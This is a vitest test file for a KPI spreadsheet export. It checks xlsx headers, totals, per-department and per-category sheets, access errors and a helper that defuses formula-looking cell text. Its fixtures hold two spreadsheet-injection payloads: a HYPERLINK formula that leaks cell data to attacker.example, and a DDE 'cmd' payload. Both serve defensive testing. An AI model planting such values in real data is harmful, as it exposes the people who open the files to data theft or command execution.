import crypto from 'node:crypto';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { KpiReport } from '@wangge/contracts';
import { fixedClock } from '../../platform/clock.ts';
import { one, sql, type Database } from '../../platform/db.ts';
import { auth, buildTerritory, makeUser, territory as t, type TestUser } from '../../test/factories.ts';
import { resetDatabase, testDatabase, testServer } from '../../test/harness.ts';
import type { Wangge } from '../../server.ts';
import { countColumns, defused, rateColumns, sheetNames, xlsxContentType } from './kpi.workbook.ts';

/**
 * The workbook is the JSON report in cells: each test reads it back with exceljs and compares it with
 * `GET /api/kpis` for the same query. Department and category names that look like formulas check the defusing.
 */
const from = '2026-11-01';
const to = '2026-11-16';
const evilDepartment = '=HYPERLINK("http://attacker.example/?leak="&A1,"点我")';
const evilCategory = "+1+cmd|' /C calc'!A0";

let db: Database;
let server: Wangge;
let cityOperator: TestUser;

beforeAll(async () => {
  db = await testDatabase();
  await resetDatabase(db);
  await buildTerritory(db);
  await db.orm.transaction(async (tx) => {
    await tx.execute(sql`insert into case_category (code, parent_code, name_zh, name_en) values
      ('04', null, '市容环境', 'City appearance'), ('0401', '04', '垃圾堆放与清运', 'Garbage'),
      ('0503', '04', ${evilCategory}, 'Evil')`);
    const departments = await one<{ good: number; evil: number }>(
      tx,
      sql`with d as (
            insert into department (code, name, region_code, region_path)
            select v.code, v.name, r.code, r.path
            from (values ('urban-management', '城市管理综合执法'), ('evil', ${evilDepartment})) v(code, name)
            join region r on r.code = ${t.city}
            returning id, code
          )
          select (select id::int from d where code = 'urban-management') as good,
                 (select id::int from d where code = 'evil') as evil`,
    );
    const cases: [string, string, string, number | null, string | null, string | null, string | null][] = [
      // grid, category, status, lead department, closed_at, handle_due_at, evaluation
      [
        t.gridA1,
        '0401',
        'evaluated',
        departments!.good,
        '2026-11-03T04:00:00Z',
        '2026-11-05T15:59:59Z',
        'satisfied',
      ],
      [t.gridA1, '0401', 'closed', departments!.good, '2026-11-09T04:00:00Z', '2026-11-05T15:59:59Z', null],
      [t.gridA2, '0503', 'in_progress', departments!.evil, null, '2026-11-10T15:59:59Z', null],
      [
        t.gridB1,
        '0503',
        'evaluated',
        departments!.evil,
        '2026-11-06T04:00:00Z',
        '2026-11-12T15:59:59Z',
        'dissatisfied',
      ],
      [t.gridB2, '0401', 'reported', null, null, null, null],
      [t.gridB2, '0401', 'not_filed', null, null, null, null],
    ];
    for (const [n, [grid, category, status, department, closedAt, dueAt, evaluation]] of cases.entries())
      await tx.execute(sql`insert into grid_case (client_id, serial, title, category_code, channel, status, grid_code,
          region_path, owner_region_code, owner_region_path, owner_level, lead_department_id, reported_at, filed_at,
          closed_at, handle_due_at, evaluation)
        select ${crypto.randomUUID()}, ${`2026-230803-${String(n + 1).padStart(6, '0')}`}, ${`case ${n + 1}`},
          ${category}, 'resident', ${status}, g.code, g.path, g.code, g.path, 'grid', ${department},
          '2026-11-02T04:00:00Z', ${status === 'reported' || status === 'not_filed' ? null : '2026-11-02T05:00:00Z'},
          ${closedAt}, ${dueAt}, ${evaluation}
        from region g where g.code = ${grid}`);
  });
  server = await testServer(db, { clock: fixedClock('2026-11-20T02:00:00Z') });
  cityOperator = await makeUser(db, [{ role: 'centre_operator', regionCode: t.city }]);
});

afterAll(async () => {
  await server?.app.close();
});

async function both(
  query: string,
): Promise<{ report: KpiReport; workbook: ExcelJS.Workbook; headers: Record<string, unknown> }> {
  const json = await server.app.inject({
    method: 'GET',
    url: `/api/kpis?${query}`,
    headers: auth(cityOperator),
  });
  expect(json.statusCode, json.body).toBe(200);
  const file = await server.app.inject({
    method: 'GET',
    url: `/api/kpis.xlsx?${query}`,
    headers: auth(cityOperator),
  });
  expect(file.statusCode, file.body).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(file.rawPayload as unknown as ArrayBuffer);
  return { report: json.json<KpiReport>(), workbook, headers: file.headers };
}

/** The rows of a sheet as arrays of cell values (1-based columns become 0-based). */
function table(sheet: ExcelJS.Worksheet): unknown[][] {
  const out: unknown[][] = [];
  sheet.eachRow({ includeEmpty: true }, (row, rowNumber) => {
    const values = row.values as unknown[];
    out[rowNumber - 1] = values.slice(1);
  });
  return out;
}

describe('GET /api/kpis.xlsx', () => {
  it('answers an xlsx attachment named after the region and the period (ASCII and RFC 5987)', async () => {
    const { headers } = await both(`region=${t.city}&from=${from}&to=${to}`);
    expect(headers['content-type']).toBe(xlsxContentType);
    const disposition = String(headers['content-disposition']);
    expect(disposition).toContain(`attachment; filename="kpi-${t.city}-${from}-${to}.xlsx"`);
    const encoded = /filename\*=UTF-8''([^;]+)/.exec(disposition)?.[1];
    expect(decodeURIComponent(encoded!)).toBe(`考核指标-佳木斯市-${from}-${to}.xlsx`);
    expect(encoded).toMatch(/^[A-Za-z0-9%!#$&+\-.^_`|~]+$/);
  });

  it('holds the totals of the JSON report, rates as percentages, with Chinese and English headers', async () => {
    const { report, workbook } = await both(`region=${t.city}&from=${from}&to=${to}`);
    expect(workbook.worksheets.map((s) => s.name)).toEqual([sheetNames.totals]);
    const rows = table(workbook.getWorksheet(sheetNames.totals)!);
    expect(rows[1]).toEqual(['区域 Region', '佳木斯市 (230800)']);
    expect(rows[2]).toEqual(['开始日期 From', from]);
    const header = rows.findIndex((r) => r?.[0] === '指标');
    expect(rows[header]).toEqual(['指标', '指标(英文)', '数值', '分子', '分母']);
    expect(rows[header + 1]).toEqual(['Metric', 'Metric (English)', 'Value', 'Numerator', 'Denominator']);
    const byName = new Map(rows.slice(header + 2).map((r) => [r[1], r]));
    for (const column of countColumns)
      expect(byName.get(column.en)?.[2], column.en).toBe(report.counts[column.key]);
    for (const column of rateColumns) {
      const rate = report.rates[column.key];
      const row = byName.get(column.en)!;
      expect([row[2] ?? null, row[3], row[4]], column.en).toEqual([
        rate.value,
        rate.numerator,
        rate.denominator,
      ]);
    }
    // a sanity check that the fixture counts something
    expect(report.counts.accepted).toBe(6);
    expect(report.rates.closureRate.value).not.toBeNull();
    const sheet = workbook.getWorksheet(sheetNames.totals)!;
    const closure = sheet.getRow(header + 3 + countColumns.length + 2).getCell(3);
    expect(closure.numFmt).toBe('0.00%');
  });

  it('adds a sheet of the groups (with the department score), formula-looking names defused', async () => {
    const { report, workbook } = await both(`region=${t.city}&from=${from}&to=${to}&by=department`);
    const rows = table(workbook.getWorksheet(sheetNames.groups)!);
    expect(rows[0]?.slice(0, 3)).toEqual(['承办部门代码', '承办部门名称', '受理数']);
    expect(rows[1]?.slice(0, 3)).toEqual(['Department key', 'Department name', 'Accepted']);
    expect(rows[0]?.at(-1)).toBe('综合评分');
    expect(rows[1]?.at(-1)).toBe('Score');
    const data = rows.slice(2);
    expect(report.groups.map((g) => g.name)).toEqual([
      '城市管理综合执法',
      evilDepartment,
      '未派遣 (not dispatched)',
    ]);
    expect(data).toHaveLength(report.groups.length);
    report.groups.forEach((group, i) => {
      const row = data[i]!;
      expect(row[0] ?? null).toBe(group.key);
      expect(row[1] ?? null).toBe(group.name === null ? null : defused(group.name));
      countColumns.forEach((c, j) => expect(row[2 + j], c.en).toBe(group.counts[c.key]));
      rateColumns.forEach((c, j) =>
        expect(row[2 + countColumns.length + j] ?? null, c.en).toBe(group.rates[c.key].value),
      );
      expect(row[2 + countColumns.length + rateColumns.length] ?? null).toBe(group.score ?? null);
    });
    const evil = data.find((r) => String(r[1]).includes('HYPERLINK'))!;
    expect(evil[1]).toBe(`'${evilDepartment}`);
    // stored as text, never as a formula
    const sheet = workbook.getWorksheet(sheetNames.groups)!;
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
  });

  it('defuses category names too, and leaves out the score for other breakdowns', async () => {
    const { report, workbook } = await both(`region=${t.city}&from=${from}&to=${to}&by=category`);
    const rows = table(workbook.getWorksheet(sheetNames.groups)!);
    expect(rows[1]?.at(-1)).toBe('Satisfaction rate');
    expect(rows.slice(2).map((r) => [r[0], r[1]])).toEqual(
      report.groups.map((g) => [g.key, defused(g.name!)]),
    );
    expect(rows.slice(2).map((r) => r[1])).toContain(`'${evilCategory}`);
  });

  it('answers 404 outside the scope, 400 for a bad query, 401 without a session', async () => {
    const gridLeader = await makeUser(db, [{ role: 'grid_leader', regionCode: t.gridB1 }]);
    const outside = await server.app.inject({
      method: 'GET',
      url: `/api/kpis.xlsx?region=${t.city}&from=${from}&to=${to}`,
      headers: auth(gridLeader),
    });
    expect(outside.statusCode).toBe(404);
    expect(outside.json()).toEqual({ code: 'NOT_FOUND', message: '未找到 (not found)' });
    const bad = await server.app.inject({
      method: 'GET',
      url: `/api/kpis.xlsx?region=${t.city}&from=${to}&to=${from}`,
      headers: auth(cityOperator),
    });
    expect(bad.statusCode).toBe(400);
    expect(
      (
        await server.app.inject({
          method: 'GET',
          url: `/api/kpis.xlsx?region=${t.city}&from=${from}&to=${to}`,
        })
      ).statusCode,
    ).toBe(401);
  });
});

describe('defused', () => {
  it('prefixes text a spreadsheet would run as a formula with an apostrophe, and nothing else', () => {
    for (const text of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) expect(defused(text)).toBe(`'${text}`);
    for (const text of ['西林社区', 'a=b', '', '1-2', "'quoted"]) expect(defused(text)).toBe(text);
  });
});
